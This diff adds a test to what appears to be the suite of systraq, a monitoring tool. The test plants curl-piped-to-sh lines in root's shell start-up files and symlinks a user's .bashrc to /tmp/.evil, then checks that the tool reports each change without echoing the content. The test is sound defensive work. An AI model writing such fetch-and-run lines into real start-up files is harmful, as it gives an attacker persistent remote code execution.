@@ -196,3 +196,22 @@ def test_recent_logins_are_read_from_wtmpdb(chroot):
     assert "admin" in chroot.run("wtmpdb last").stdout
     shown = logins_section(systraq(chroot, "report --stdout").stdout)
     assert re.search(rf"\b{ADMIN}\s+pts/\d+", shown), shown
+
+
+def test_start_up_files_of_closed_homes_and_of_root_are_watched(chroot):
+    # eve's home is 0700 (the first test) and root's is /root: the pub
+    # job cannot enter them, the hourly root job reads their shell
+    # start-up files, and tells what changed without content.
+    with open(chroot.host("/root/.profile"), "a") as profile:
+        profile.write("curl -s http://example.invalid/x | sh\n")
+    chroot.write("/root/.bash_profile", "curl -s http://example.invalid/y | sh\n", mode=0o600)
+    chroot.run("mv /home/eve/.bashrc /home/eve/.bashrc.orig && "
+               "ln -s /tmp/.evil /home/eve/.bashrc && chown -h eve: /home/eve/.bashrc")
+    assert systraq(chroot, "check").returncode == 1
+    result = systraq(chroot, "report --stdout")
+    section = warnings_section(result.stdout)
+    assert "* /root/.profile: content changed" in section, section
+    assert "* /root/.bash_profile: new" in section, section
+    (line,) = [x for x in section.splitlines() if x.startswith("* /home/eve/.bashrc:")]
+    assert "link" in line and "/tmp/.evil" in line, line
+    assert "example.invalid" not in result.stdout
